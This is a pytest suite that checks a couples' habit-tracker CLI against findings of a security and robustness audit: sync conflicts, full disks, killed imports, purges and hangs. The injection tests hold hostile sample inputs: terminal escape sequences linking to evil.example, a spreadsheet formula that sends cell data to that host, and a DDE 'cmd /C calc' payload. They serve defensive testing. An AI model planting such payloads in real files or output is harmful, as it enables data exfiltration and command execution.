"""The outside attack of December 2026 (issue 14): what it found that could lose, double or corrupt data.

Each test is a finding of that report, through the real `connect`: two homes and a folder where it is about
sharing, a real tmpfs for a full disk, real processes killed with SIGKILL. `make attack` runs these with the
rest of the attack suite.
"""

from __future__ import annotations

import json
import os
import random
import shutil
import signal
import subprocess
import time
from pathlib import Path

import pytest

from support import CONNECT, one_error_line, run_connect
from support.sealed import opened, shared_json, write_json_sealed

NOW = "2026-11-26T19:00"


class Home:
    """One machine's home; `connect(...)` runs the real command there."""

    def __init__(self, root: Path, name: str):
        self.home = root / name
        self.code = ""  # the couple's pairing code, once the home is shared

    def __call__(self, *args: str, now: str = NOW, stdin: str = "", env: dict | None = None):
        return run_connect(self.home, *args, now=now, stdin=stdin, env=env)

    def ok(self, *args: str, now: str = NOW):
        result = self(*args, now=now)
        assert result.code == 0, (args, result.out, result.err)
        return result

    @property
    def device(self) -> str:
        return self.ok("sync", "status", "--json").json()["device"]

    def log(self) -> list[tuple[str, str, str]]:
        return sorted(
            (e["date"], e["habit"], e["note"]) for e in self.ok("log", "--json").json() if e["kind"] == "checkin"
        )


@pytest.fixture
def couple(tmp_path):
    """Alex and Sam, each a home, sharing one folder (which both read directly, as if synced at once)."""
    alex, sam = Home(tmp_path, "alex"), Home(tmp_path, "sam")
    folder = tmp_path / "shared"
    alex.ok("init", "--partner", "Alex", "--partner", "Sam", "--yes", "--habit", "weekly-check-in")
    alex.ok("add", "Talk")
    alex.code = sam.code = alex.ok("sync", "init", str(folder), "--me", "Alex").out.splitlines()[-1]
    sam.ok("sync", "join", str(folder), "--me", "Sam", "--code", sam.code)
    return alex, sam, folder


# ---------------------------------------------------------------- D1: a stale copy of this device's own file


def test_d1_a_stale_copy_of_this_devices_own_files_is_noticed_and_what_was_lost_put_back(couple, tmp_path):
    alex, sam, folder = couple
    sam.ok("done", "talk", now="2026-11-24T19:00")
    old = tmp_path / "version-history"
    old.mkdir()
    for path in folder.glob(f"connect-{sam.device}*"):
        shutil.copy2(path, old / path.name)  # the sync tool keeps this version
    sam.ok("done", "talk", "--note", "Wednesday", now="2026-11-25T19:00")
    sam.ok("done", "talk", "--note", "Thursday")
    before = sam.log()
    for path in old.iterdir():
        shutil.copy2(path, folder / path.name)  # ... and puts it back
    read = sam("log", "--json")
    assert "had gone back to an older copy" in read.err and "put back" in read.err
    assert sam.log() == before == alex.log()
    assert len(before) == 3
    sam.ok("done", "weekly")  # the next write keeps everything
    assert len(alex.log()) == 4


def test_d1_a_deleted_own_month_file_is_put_back(couple):
    alex, sam, folder = couple
    sam.ok("done", "talk", "--note", "kept")
    [month] = folder.glob(f"connect-{sam.device}.2026-11.json")
    month.unlink()
    assert "put back" in sam("week").err
    assert ("2026-11-26", "Talk", "kept") in alex.log()


# ---------------------------------------------------------------- D2: conflict copies


def test_d2_a_conflict_copy_holding_the_only_copy_of_a_check_in_is_read_and_taken_in(couple, tmp_path):
    alex, sam, folder = couple
    sam.ok("done", "talk", now="2026-11-25T19:00")
    [live] = folder.glob(f"connect-{sam.device}.2026-11.json")
    before = tmp_path / "before.json"
    shutil.copy2(live, before)
    sam.ok("done", "talk", "--note", "only in the conflict copy")
    shutil.move(live, folder / f"connect-{sam.device}.2026-11.sync-conflict-20261126-190000-ABCDEFG.json")
    shutil.copy2(before, live)
    shutil.rmtree(sam.home / "own-files")  # no private record to fall back on: the copy is all there is
    expected = ("2026-11-26", "Talk", "only in the conflict copy")
    assert expected in alex.log() and expected in sam.log()
    note = [n for n in alex.ok("sync", "status", "--json").json()["odd"] if "conflict copy" in n]
    assert note and "1 records the live files lack" in note[0] and "may delete" not in note[0]
    sam.ok("add", "Read")  # Sam's next change takes the record into Sam's own file
    note = [n for n in alex.ok("sync", "status", "--json").json()["odd"] if "conflict copy" in n]
    assert "you may delete it" in note[0]
    for copy in folder.glob("*sync-conflict*"):
        copy.unlink()
    assert expected in alex.log()


# ---------------------------------------------------------------- D3: a full disk in the middle of a command


@pytest.fixture
def small_disk(tmp_path):
    """A 256 KiB tmpfs (root only, as in CI)."""
    mount = tmp_path / "disk"
    mount.mkdir()
    result = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(mount)], capture_output=True)
    if result.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {result.stderr.decode().strip()}")
    yield mount
    subprocess.run(["umount", "-l", str(mount)], check=False)


def _fill(disk: Path, leave: int) -> Path:
    filler = disk / "filler"
    free = shutil.disk_usage(disk).free
    with open(filler, "wb") as handle:
        handle.write(b"\0" * max(0, free - leave))
    return filler


@pytest.mark.parametrize("leave", [0, 1024, 4096, 8192, 12288])
def test_d3_a_command_on_a_nearly_full_disk_lands_whole_or_not_at_all_and_says_which(small_disk, leave):
    home = Home(small_disk, "home")
    home.ok("init", "--partner", "Alex", "--partner", "Sam", "--yes", now="2026-11-27T08:00")
    home.ok("unplug", "10m", "--habit", "tech-free-time", now="2026-11-27T08:00")
    filler = _fill(small_disk, leave)
    first = home("done", "tech-free-time", "--minutes", "25", now="2026-11-27T09:00")
    filler.unlink()
    logged = [e["minutes"] for e in home.ok("log", "--json", now="2026-11-27T09:01").json()]
    if first.code == 0:
        assert sorted(logged) == [10, 25]
    else:
        assert "nothing was changed" in one_error_line(first)
        assert sorted(logged) == [10]  # the session, settled by `log`; the 25 minutes were not written
        home.ok("done", "tech-free-time", "--minutes", "25", now="2026-11-27T09:02")
        logged = [e["minutes"] for e in home.ok("log", "--json", now="2026-11-27T09:03").json()]
        assert sorted(logged) == [10, 25]
    assert not list(home.home.glob(".*.tmp")) and not (home.home / "commit-journal.json").exists()


# ---------------------------------------------------------------- D4: export over connect's own files


def test_d4_an_export_never_replaces_one_of_connects_own_files(couple):
    alex, sam, folder = couple
    alex.ok("done", "talk")
    sam_file = folder / f"connect-{sam.device}.json"
    targets = [
        alex.home / "config.toml",
        folder / f"connect-{alex.device}.json",
        sam_file,
        folder / f"connect-{alex.device}.2026-11.json",
        alex.home / "daemon-state.json",
    ]
    for target in targets:
        before = target.read_bytes() if target.exists() else None
        assert "one of connect's own files" in one_error_line(alex("export", "-o", str(target)))
        assert (target.read_bytes() if target.exists() else None) == before
    link = alex.home.parent / "innocent.json"
    link.symlink_to(sam_file)
    assert "one of connect's own files" in one_error_line(alex("export", "-o", str(link)))
    assert alex.ok("export", "-o", str(alex.home / "backup.json")).code == 0  # a new name beside them is fine


# ---------------------------------------------------------------- W1: an import killed half-way


def _backup(path: Path, habits: int = 12, days: int = 900) -> None:
    """A backup of `habits` daily habits with a check-in on most of `days` days: many month files to write."""
    rng = random.Random(7)
    start = time.mktime((2024, 6, 1, 12, 0, 0, 0, 0, -1))
    ids = [f"{n:032x}" for n in range(1, habits + 1)]
    checkins = []
    for n in range(days):
        day = time.strftime("%Y-%m-%d", time.localtime(start + n * 86400))
        for habit in ids:
            if rng.random() < 0.9:
                checkins.append(
                    {
                        "id": f"c{len(checkins):031x}",
                        "habit": habit,
                        "date": day,
                        "minutes": None,
                        "note": "",
                        "logged_at": f"{day}T20:00:00",
                        "source": "cli",
                        "by": None,
                    }
                )
    backup = {
        "format": "connect-backup",
        "version": 2,
        "config": {"week_start": "monday", "grace": "1h"},
        "couple": {
            "id": "c0ffee",
            "partners": [{"id": "p:alex", "name": "Alex"}, {"id": "p:sam", "name": "Sam"}],
            "aliases": {},
        },
        "habits": [
            {
                "id": h,
                "name": f"Habit {n}",
                "slug": f"habit-{n}",
                "cadence": "daily",
                "goal": None,
                "at": [],
                "created": "2024-06-01",
                "archived": False,
                "template": None,
                "prompts": [],
                "note": "",
                "who": "together",
            }
            for n, h in enumerate(ids)
        ],
        "checkins": checkins,
        "skips": [],
    }
    path.write_text(json.dumps(backup))


def test_w1_an_import_killed_at_any_moment_leaves_nothing_or_everything_and_a_retry_finishes(tmp_path):
    backup = tmp_path / "backup.json"
    _backup(backup)
    reference = Home(tmp_path, "reference")
    reference.ok("import", str(backup))
    expected = json.loads(reference.ok("export").out)
    outcomes = set()
    for attempt in range(12):
        home = Home(tmp_path, f"killed-{attempt}")
        env = dict(os.environ, CONNECT_HOME=str(home.home), CONNECT_NOW=NOW)
        process = subprocess.Popen(
            [CONNECT, "import", str(backup)], env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
        )
        time.sleep(0.15 + 0.06 * attempt)
        process.send_signal(signal.SIGKILL)
        process.wait()
        habits = home.ok("list", "--json").json()
        if habits:
            assert json.loads(home.ok("export").out) == expected  # all of it, settings too
            outcomes.add("all")
        else:
            assert home.ok("log", "--json").json() == []
            outcomes.add("none")
            home.ok("import", str(backup))  # the retry is not refused
            assert json.loads(home.ok("export").out) == expected
    assert outcomes  # and both kinds are seen in practice: see RELIABILITY.md


# ---------------------------------------------------------------- C1: a stamp far in the future


def test_c1_a_partner_record_with_an_absurd_stamp_poisons_nothing(couple):
    alex, sam, folder = couple
    sam_file = folder / f"connect-{sam.device}.json"
    good = sam_file.read_bytes()
    data = shared_json(sam_file, sam.code)
    data.setdefault("habit_changes", {})["99"] = {
        "id": "y" * 32,
        "habit": "h" * 32,
        "stamp": 10**30,
        "fields": {"name": "Ghost"},
    }
    data["habit_changes"]["98"] = {
        "id": "z" * 32,
        "habit": "h" * 32,
        "stamp": int(time.time() * 1000) + 10**12,
        "fields": {"name": "Far ahead"},
    }
    write_json_sealed(sam_file, sam.code, data)  # Sam's machine, with the key, wrote it
    read = alex.ok("week")
    assert "skipped 1 record of" in read.err
    alex.ok("done", "talk")
    alex.ok("undo", "talk")
    sam_file.write_bytes(good)
    own = shared_json(folder / f"connect-{alex.device}.json", alex.code)
    month = shared_json(folder / f"connect-{alex.device}.2026-11.json", alex.code)
    stamps = [
        r["stamp"]
        for table in ("habit_changes", "couple_changes", "removals")
        for data_ in (own, month)
        for r in data_.get(table, {}).values()
    ]
    assert max(stamps) < int(time.time() * 1000) + 2 * 86400 * 1000
    assert alex.ok("sync", "status").code == 0


# ---------------------------------------------------------------- W11: deleted means deleted


def test_w11_a_purge_leaves_no_name_note_or_check_in_behind_in_this_home(tmp_path):
    home = Home(tmp_path, "home")
    home.ok("add", "Couples therapy", "--note", "Dr. X, Tuesdays")
    home.ok("done", "couples", "--note", "hard session")
    home.ok("edit", "couples", "--rename", "Appointment")
    assert "Deleted" in home.ok("remove", "appointment", "--purge", "--yes").out
    for path in home.home.glob("connect*.json"):
        text = path.read_text()
        assert not any(word in text for word in ("Couples therapy", "Dr. X", "hard session", "Appointment"))


def test_w11_a_purge_reaches_the_partners_files_at_their_next_change(couple):
    alex, sam, folder = couple
    alex.ok("add", "Secret", "--note", "private thing")
    sam.ok("done", "secret", "--note", "Sam's note about it")
    sam.ok("edit", "secret", "--rename", "Secret plan")
    alex.ok("remove", "secret", "--purge", "--yes")
    sam.ok("done", "weekly")  # Sam's next change
    for path in folder.glob("connect-*.json"):
        text = opened(path, alex.code).decode()
        assert "private thing" not in text and "Sam's note" not in text and "Secret plan" not in text, path.name
    assert "secret" not in [h["slug"] for h in sam.ok("list", "--json").json()]


# ---------------------------------------------------------------- X5: a failed sync init


def test_x5_a_sync_init_on_a_full_disk_leaves_nothing_in_the_folder_and_the_retry_is_clean(small_disk):
    home = Home(small_disk.parent, "home-x5")
    home.ok("init", "--partner", "Alex", "--partner", "Sam", "--yes", now="2026-09-05T10:00")
    for month in ("09", "10", "11"):
        home.ok("done", "notice", now=f"2026-{month}-05T10:00")
    folder = small_disk / "shared"
    filler = _fill(small_disk, 6 * 1024)
    failed = home("sync", "init", str(folder), "--me", "Alex")
    assert failed.code == 1 and "nothing was changed" in failed.err
    assert not [p for p in folder.iterdir() if p.name.startswith("connect")] if folder.exists() else True
    filler.unlink()
    home.ok("sync", "init", str(folder), "--me", "Alex")
    devices = {p.name.split(".")[0] for p in folder.iterdir() if p.name.startswith("connect-")}
    assert len(devices) == 1


# ================================================================ one bad record never stops the rest


def _edit_main(path: Path, code: str, change) -> None:
    """A device's file in the shared folder, changed as a device with the couple's key could write it."""
    data = shared_json(path, code)
    change(data)
    write_json_sealed(path, code, data)


def test_w4_a_partner_habit_with_a_time_in_other_digits_stops_nothing_else(couple):
    alex, sam, folder = couple
    alex.ok("add", "Mine", "--at", "19:00")
    sam.ok("add", "Bee", "--at", "18:00")

    def bad_time(data):
        for change in data["habit_changes"].values():
            if change["fields"].get("name") == "Bee":
                change["fields"]["at"] = ["19:0\u0663"]

    _edit_main(folder / f"connect-{sam.device}.json", sam.code, bad_time)
    for args in (("remind", "--json"), ("daemon", "status"), ("export", "-f", "ics"), ("week",), ("list",)):
        result = alex(*args, now="2026-11-26T10:00")
        assert result.code == 0 and "Traceback" not in result.err, (args, result.err)
        assert f"connect-{sam.device}.json" in result.err  # the file is named in a warning
    reminders = [r["habit"] for r in alex.ok("remind", "--json", now="2026-11-26T10:00").json()]
    assert "Mine" in reminders and "Bee" not in reminders


@pytest.mark.parametrize(
    "field, value",
    [
        ("name", ""),
        ("name", "two\nlines"),
        ("name", "L" * 500),
        ("name", "Walk\x1b]52;c;aGFja2Vk\x07"),
        ("name", "Wa\ud800lk"),
        ("name", "Bidi \u202eevil"),
        ("note", "n\x1b[2Jx"),
        ("cadence", "sometimes"),
        ("at", ["25:00"]),
        ("at", ["19:00", "19:00"]),
        ("created", "1800-01-01"),
        ("who", "Mallory"),
        ("goal", {"minutes": 10**30, "per": "day"}),
    ],
)
def test_w10_a_backup_is_checked_as_the_command_line_checks_what_is_typed(tmp_path, field, value):
    habit = {
        "id": "a" * 32,
        "name": "Walk",
        "slug": "walk",
        "cadence": "daily",
        "goal": None,
        "at": [],
        "created": "2026-11-01",
        "archived": False,
        "template": None,
        "prompts": [],
        "note": "",
        "who": "together",
    }
    habit[field] = value
    backup = {
        "format": "connect-backup",
        "version": 1,
        "config": {"partners": ["A", "B"], "week_start": "monday"},
        "habits": [habit],
        "checkins": [],
        "skips": [],
    }
    home = Home(tmp_path, "home")
    refused = home("import", "-", stdin=json.dumps(backup))
    assert "is not a connect backup" in one_error_line(refused) and "habit 1" in refused.err
    assert not home.home.exists() or not list(home.home.glob("connect*.json"))


@pytest.mark.parametrize(
    "config, says",
    [
        ({"partners": ["A", "B", "C"], "week_start": "monday"}, "partners"),
        ({"partners": ["A", "a"], "week_start": "monday"}, "partners"),
        ({"partners": ["A", "B"], "week_start": "monday", "quiet_hours": "99:99-00:00"}, "quiet_hours"),
        ({"partners": ["A", "B"], "week_start": "monday", "grace": "-5h"}, "grace"),
    ],
)
def test_w10_a_backups_settings_are_checked_as_connect_config_checks_them(tmp_path, config, says):
    backup = {"format": "connect-backup", "version": 1, "config": config, "habits": [], "checkins": [], "skips": []}
    home = Home(tmp_path, "home")
    assert says in one_error_line(home("import", "-", stdin=json.dumps(backup)))


def test_w10_check_ins_of_a_backup_are_checked_too(tmp_path):
    habit = {
        "id": "a" * 32,
        "name": "Walk",
        "slug": "walk",
        "cadence": "daily",
        "goal": None,
        "at": [],
        "created": "2026-11-01",
        "archived": False,
        "template": None,
        "prompts": [],
        "note": "",
        "who": "together",
    }
    bad = [
        {"date": "1800-01-01"},
        {"minutes": 10**30},
        {"note": "n\x1b[2Jx"},
        {"by": "Mallory"},
    ]
    for n, change in enumerate(bad):
        checkin = {
            "id": "c" * 32,
            "habit": "a" * 32,
            "date": "2026-11-02",
            "minutes": None,
            "note": "",
            "logged_at": "2026-11-02T10:00:00",
            "source": "cli",
            "by": None,
            **change,
        }
        backup = {
            "format": "connect-backup",
            "version": 1,
            "config": {"partners": ["A", "B"], "week_start": "monday"},
            "habits": [habit],
            "checkins": [checkin],
            "skips": [],
        }
        home = Home(tmp_path, f"home-{n}")
        assert "check-in 1" in one_error_line(home("import", "-", stdin=json.dumps(backup))), change


# ================================================================ injection


OSC = "\x1b]52;c;aGFja2Vk\x07\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07\x1b]0;owned\x07"


def test_w12_escape_sequences_from_a_partners_file_never_reach_the_terminal(couple):
    alex, sam, folder = couple
    sam.ok("add", "Walk", "--at", "19:00")
    sam.ok("done", "walk", "--note", "fine")

    def inject(data):
        for change in data["habit_changes"].values():
            if change["fields"].get("name") == "Walk":
                change["fields"]["name"] = "Walk" + OSC
                change["fields"]["note"] = "note" + OSC

    _edit_main(folder / f"connect-{sam.device}.json", sam.code, inject)

    def seen(data):
        for checkin in data["checkins"].values():
            checkin["note"] = "seen" + OSC

    _edit_main(folder / f"connect-{sam.device}.2026-11.json", sam.code, seen)
    for args in (
        ("done", "walk"),
        ("undo", "walk"),
        ("skip", "walk", "--date", "today"),
        ("remind",),
        ("daemon", "status"),
        ("week",),
        ("list",),
        ("stats",),
        ("log",),
        ("sync", "status"),
        ("remove", "walk"),
        ("edit", "walk", "--restore"),
        ("partners",),
    ):
        result = alex(*args)
        assert "\x1b]" not in result.out + result.err and "\x07" not in result.out + result.err, args


def test_w12_a_name_with_a_control_character_is_shown_escaped_wherever_it_is_printed(tmp_path):
    # A habit name can only come with escapes from an older version's file: the output itself is safe too.
    from connect_habits.cli.output import echo  # noqa: F401  (the function every line goes through)

    home = Home(tmp_path, "home")
    home.ok("add", "Walk", "--at", "19:00")
    main = home.home / "connect.json"
    data = json.loads(main.read_text())
    for change in data["habit_changes"].values():
        change["fields"]["note"] = "x" + OSC
    main.write_text(json.dumps(data))
    for args in (("list",), ("done", "walk"), ("remind",), ("week",)):
        result = home(*args)
        assert "\x1b]" not in result.out + result.err and "\x07" not in result.out + result.err, args


def test_w13_a_csv_export_neutralises_what_a_spreadsheet_would_run(tmp_path):
    home = Home(tmp_path, "home")
    home.ok("add", '=HYPERLINK("http://evil.example/?"&A1,"click")')
    home.ok("add", "Walk")
    home.ok("done", "walk", "--note", "=cmd|' /C calc'!A0")
    home.ok("done", "=hyperlink", "--note", "+1+2")
    text = home.ok("export", "--format", "csv").out
    import csv
    import io

    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], cells
    assert "'=cmd|' /C calc'!A0" in cells and "'+1+2" in cells


def test_w14_one_day_of_a_minutes_goal_holds_at_most_24_hours(tmp_path):
    home = Home(tmp_path, "home")
    home.ok("add", "G", "--goal", "30m/day")
    home.ok("done", "g", "--minutes", "1000")
    refused = home("done", "g", "--minutes", "500")
    assert "24 hours" in one_error_line(refused)
    home.ok("done", "g", "--minutes", "440")
    assert sum(e["minutes"] for e in home.ok("log", "--json").json()) == 1440


# ================================================================ crashes and hangs


def test_c3_an_import_of_something_huge_or_endless_is_refused_in_one_sentence(tmp_path):
    home = Home(tmp_path, "home")
    for source in ("connect", "loop"):
        assert "regular file" in one_error_line(home("import", "--from", source, "/dev/zero"))
    big = tmp_path / "big.json"
    with open(big, "wb") as handle:
        handle.truncate(300 * 1024 * 1024)  # sparse: 300 MiB of nothing
    assert "too large" in one_error_line(home("import", str(big)))
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    assert "regular file" in one_error_line(home("import", str(fifo)))


@pytest.mark.parametrize("name", ["config.toml", "summary-cache.json", "connect.json", "daemon-state.json"])
def test_c4_a_fifo_where_a_file_belongs_never_hangs_a_command(tmp_path, name):
    home = Home(tmp_path, "home")
    home.ok("add", "Walk")
    home.ok("week")
    (home.home / name).unlink(missing_ok=True)
    os.mkfifo(home.home / name)
    for args in (("week",), ("daemon", "status")):
        start = time.monotonic()
        result = home(*args)
        assert time.monotonic() - start < 10, args
        assert "Traceback" not in result.err


def test_c4_a_fifo_in_the_shared_folder_never_hangs_either_partner(couple):
    alex, sam, folder = couple
    os.mkfifo(folder / "connect-abcdefabcdef.json")
    for home in (alex, sam):
        start = time.monotonic()
        assert home("week").code == 0
        assert home("done", "talk").code == 0
        assert time.monotonic() - start < 10


def test_c5_a_long_name_from_a_partners_file_costs_no_more_than_a_short_one(couple):
    alex, sam, folder = couple
    sam.ok("add", "Walk")

    def longer(data):
        for change in data["habit_changes"].values():
            if change["fields"].get("name") == "Walk":
                change["fields"]["name"] = "N" * 100_000

    _edit_main(folder / f"connect-{sam.device}.json", sam.code, longer)
    for args in (("week",), ("list",), ("stats",)):
        start = time.monotonic()
        assert alex(*args).code == 0
        assert time.monotonic() - start < 5, args


def test_c5_fitting_a_long_name_in_a_column_is_linear():
    from connect_habits.core.words import fit

    start = time.monotonic()
    assert fit("N" * 200_000, 28) == "N" * 27 + "…"
    assert fit("界" * 100_000, 9) == "界" * 4 + "…"
    assert time.monotonic() - start < 1


def test_c6_a_loop_import_of_thousands_of_habits_is_linear(tmp_path):
    import zipfile

    header = "Position,Name,Question,Description,NumRepetitions,Interval,Color\n"
    export = tmp_path / "loop.zip"
    with zipfile.ZipFile(export, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("Habits.csv", header + "".join(f"{i:03d},H{i % 50},,,1,1,#f00\n" for i in range(5000)))
    home = Home(tmp_path, "home")
    start = time.monotonic()
    result = home("import", "--from", "loop", str(export))
    assert time.monotonic() - start < 30
    assert result.code == 0, result.err
    assert len(home.ok("list", "--json").json()) == 5000


@pytest.mark.parametrize("now", ["9999-12-31T23:59", "0001-01-01T00:00", "3000-01-01T00:00"])
def test_c7_a_pinned_clock_outside_1900_to_2999_is_refused_in_one_sentence(tmp_path, now):
    home = Home(tmp_path, "home")
    home.ok("add", "X")
    for args in (("remind",), ("week",), ("done", "x")):
        assert "CONNECT_NOW" in one_error_line(home(*args, now=now))


# ================================================================ confusing


def test_x2_invisible_and_direction_changing_characters_do_not_make_look_alike_habits(tmp_path):
    home = Home(tmp_path, "home")
    home.ok("add", "Zerowidth")
    for name in ("Zero\u200bwidth", "Zero\u200cwidth", "Bidi \u202eevil"):
        assert "invisible or direction-changing" in one_error_line(home("add", name))
    assert "direction-changing" in one_error_line(home("done", "zero", "--note", "a \u202eb"))
    assert [h["name"] for h in home.ok("list", "--json").json()] == ["Zerowidth"]


def test_x3_an_exact_slug_wins_and_look_alike_candidates_are_told_apart_by_slug(couple, tmp_path):
    alex, sam, folder = couple
    hidden = tmp_path / "not-yet-synced"
    hidden.mkdir()
    sam.ok("add", "Cuddle")
    for path in folder.glob(f"connect-{sam.device}*"):
        shutil.move(path, hidden / path.name)
    alex.ok("add", "Cuddle")
    for path in hidden.iterdir():
        shutil.move(path, folder / path.name)
    slugs = sorted(h["slug"] for h in alex.ok("list", "--json").json() if h["name"] == "Cuddle")
    assert slugs == ["cuddle", "cuddle-2"]
    assert alex("done", "cuddle").code == 0  # the exact slug
    refused = one_error_line(alex("done", "Cuddle"))  # the exact name of two: say which by slug
    assert "(cuddle)" in refused and "(cuddle-2)" in refused


def test_x4_a_partner_file_from_a_newer_connect_does_not_invite_a_new_start(couple):
    alex, sam, folder = couple
    sam.ok("done", "talk")
    _edit_main(folder / f"connect-{alex.device}.json", alex.code, lambda d: d["_meta"]["1"].update(schema=99))
    week = sam("week")
    assert "newer connect" in week.err and "may be in it" in week.out and "Two ways to start" not in week.out
    assert "may be in it" in sam.ok("list").out


def test_x6_a_shared_folder_is_created_private_and_a_home_that_is_not_ours_is_not_chmod_ed(tmp_path):
    home = Home(tmp_path, "home")
    home.ok("add", "X")
    old = os.umask(0o022)
    try:
        home.ok("sync", "init", str(tmp_path / "made" / "shared"), "--me", "A")
    finally:
        os.umask(old)
    assert (tmp_path / "made" / "shared").stat().st_mode & 0o777 == 0o700
    public = tmp_path / "public"
    public.mkdir()
    public.chmod(0o1777)
    (public / "someone-elses-file").write_text("theirs")
    result = run_connect(public, "add", "X")
    assert result.code == 0
    assert public.stat().st_mode & 0o7777 == 0o1777
    assert "not connect's" in result.err
    assert (public / "connect.json").stat().st_mode & 0o777 == 0o600
